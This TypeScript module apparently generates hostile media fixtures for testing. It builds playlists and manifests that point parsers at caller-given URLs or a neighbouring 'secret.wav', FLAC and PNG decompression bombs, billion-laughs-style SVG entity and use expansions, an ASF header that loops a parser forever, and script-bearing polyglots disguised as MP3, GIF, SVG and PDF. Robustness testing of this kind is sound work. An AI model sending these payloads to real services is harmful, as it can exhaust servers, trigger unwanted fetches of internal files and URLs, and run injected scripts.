import { crc32, deflateSync } from 'node:zlib';
import { randomFrom } from './made-music';

// Files that mean harm, made from nothing: the caller says what they lead to.

/** Texts that some program would follow to `url`, or to the file `neighbor` beside them. */
export const leadingTexts = (url: string, neighbor = 'secret.wav'): Record<string, string> => ({
  HLS: `#EXTM3U\n#EXT-X-TARGETDURATION:3\n#EXTINF:3,\n${url}\n#EXT-X-ENDLIST\n`,
  'HLS with a key': `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${url}"\n#EXTINF:3,\n${neighbor}\n#EXT-X-ENDLIST\n`,
  M3U: `#EXTM3U\n#EXTINF:3,Song\n${url}\n`,
  DASH: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation id="1" bandwidth="1"><BaseURL>${url}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  ffconcat: `ffconcat version 1.0\nfile '${url}'\nfile ${neighbor}\n`,
  SDP: `v=0\nc=IN IP4 127.0.0.1\nm=audio ${new URL(url).port} RTP/AVP 0\n`,
  'ASF redirector': `[Reference]\nRef1=${url}\n`,
  SVG: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`,
});

/** A copy with bytes changed here and there: two in a thousand, and always some in the head. */
export const damaged = (file: Buffer, seed: number): Buffer => {
  const random = randomFrom(seed);
  const copy = Buffer.from(file);
  for (let n = 0; n < file.length / 500; n++) copy[Math.floor(random() * file.length)] = random() * 256;
  for (let n = 0; n < 3; n++) copy[Math.floor(random() * Math.min(200, file.length))] = random() * 256;
  return copy;
};

const crcTable = (width: 8 | 16, polynomial: number): number[] =>
  Array.from({ length: 256 }, (_, byte) => {
    let crc = byte << (width - 8);
    for (let bit = 0; bit < 8; bit++) crc = crc & (1 << (width - 1)) ? (crc << 1) ^ polynomial : crc << 1;
    return crc & (2 ** width - 1);
  });
const crc8Table = crcTable(8, 0x07);
const crc16Table = crcTable(16, 0x8005);
const crc8 = (bytes: number[]): number => bytes.reduce((crc, byte) => crc8Table[crc ^ byte] ?? 0, 0);
const crc16 = (bytes: number[]): number =>
  bytes.reduce((crc, byte) => ((crc << 8) & 0xffff) ^ (crc16Table[(crc >> 8) ^ byte] ?? 0), 0);

/** A frame's number, as UTF-8 writes a character (RFC 9639, 9.1.5). Up to 2^21. */
const coded = (n: number): number[] => {
  if (n < 0x80) return [n];
  if (n < 0x800) return [0xc0 | (n >> 6), 0x80 | (n & 63)];
  if (n < 0x10000) return [0xe0 | (n >> 12), 0x80 | ((n >> 6) & 63), 0x80 | (n & 63)];
  return [0xf0 | (n >> 18), 0x80 | ((n >> 12) & 63), 0x80 | ((n >> 6) & 63), 0x80 | (n & 63)];
};

/**
 * Silence as FLAC (RFC 9639): 16 bits, one channel, 44.1 kHz, in frames of 65,535 samples that are one constant each.
 * 24 hours are 0.9 MB, and 7.6 GB once they are decoded. Its head may say another length.
 */
export const silentFlac = (hours: number, saidSec?: number): Buffer => {
  const blockSamples = 65_535;
  const frames = Math.ceil((hours * 3600 * 44_100) / blockSamples);
  const head = Buffer.alloc(42);
  head.write('fLaC');
  head.writeUInt32BE(0x80000022, 4); // the last block of metadata, STREAMINFO, 34 bytes
  head.writeUInt16BE(blockSamples, 8);
  head.writeUInt16BE(blockSamples, 10);
  // 20 bits of rate, 3 of channels less one, 5 of bits less one, 36 of samples
  const packed =
    (44_100n << 44n) |
    (0n << 41n) |
    (15n << 36n) |
    BigInt(saidSec === undefined ? frames * blockSamples : saidSec * 44_100);
  head.writeBigUInt64BE(packed, 18);
  const parts: Buffer[] = [head];
  for (let n = 0; n < frames; n++) {
    // Fixed blocks; the size in 16 bits at the end of the head, 44.1 kHz; one channel of 16 bits; the number; the size.
    const frameHead = [0xff, 0xf8, 0x79, 0x08, ...coded(n), 0xff, 0xfe];
    const frame = [...frameHead, crc8(frameHead), 0x00, 0x00, 0x00]; // a constant subframe: zero
    const sum = crc16(frame);
    parts.push(Buffer.from([...frame, sum >> 8, sum & 255]));
  }
  return Buffer.concat(parts);
};

const pngChunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type), data]);
  const chunk = Buffer.alloc(body.length + 8);
  chunk.writeUInt32BE(data.length);
  body.copy(chunk, 4);
  chunk.writeUInt32BE(crc32(body), body.length + 4);
  return chunk;
};

/** A PNG of one color with `side` by `side` pixels: 30,000 are 109 KB, and 900 million pixels once they are decoded. */
export const hugePng = (side: number): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side);
  header.writeUInt32BE(side, 4);
  header[8] = 1; // one bit each, in gray
  const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side), { level: 9 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const chunks = [pngChunk('IHDR', header), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([signature, ...chunks]);
};

/** Drawings of a few hundred bytes that are billions of shapes, or of letters, once they are drawn or read. */
export const explodingSvgs = (): Record<string, string> => {
  const levels = Array.from({ length: 12 }, (_, n) => n + 1);
  const uses = levels.map((n) => `<g id="g${n}">${`<use href="#g${n - 1}"/>`.repeat(10)}</g>`).join('');
  const entities = levels.map((n) => `<!ENTITY e${n} "${`&e${n - 1};`.repeat(10)}">`).join('');
  return {
    'uses of uses': `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path id="g0" d="M0 0h9v9z"/>${uses}</svg>`,
    'entities of entities': `<!DOCTYPE svg [<!ENTITY e0 "ha">${entities}]><svg xmlns="http://www.w3.org/2000/svg"><text>&e12;</text></svg>`,
  };
};

/** An ASF head whose first object has no length: file-type once read it forever (CVE-2026-31808). */
export const endlessAsf = (): Buffer => {
  const file = Buffer.alloc(55);
  Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex').copy(file);
  file.writeBigUInt64LE(55n, 16);
  file.writeUInt32LE(1, 24);
  file.set([1, 2], 28);
  return file;
};

const gif = Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1');

/**
 * Files that are two things at once: what a program that plays or shows takes them for, and what one that runs would.
 * @param script statements that tell when they run
 * @param song the beginning of a real one
 */
export const polyglots = (script: string, song: Buffer): Record<string, Buffer> => {
  const page = `<!doctype html><script>${script}</script>`;
  const of = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
  return {
    'a page': of(page),
    'a page behind a sound’s magic': of('ID3\x03\x00\x00\x00\x00\x00\x21', page),
    'a page inside a song': of(song, page),
    'a script that begins as MP3 does': of(`ID3=1;${script}`),
    'a script in a picture': of(gif, `/*`, Buffer.alloc(64), `*/=1;${script}//`),
    'a script that begins as a GIF does': of(`GIF89a=1;${script}`),
    'a drawing with a script': of(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`,
    ),
    'a document with a script': of(
      `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${script})>>>>endobj\n%%EOF\n`,
      song,
    ),
    'an archive behind a picture': of(
      gif,
      ';',
      'PK\x03\x04\x14\x00\x00\x00\x00\x00',
      Buffer.alloc(22),
      'PK\x05\x06',
      Buffer.alloc(18),
    ),
    'XML that is styled by a script': of(
      `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${script}</x:script>`,
    ),
  };
};
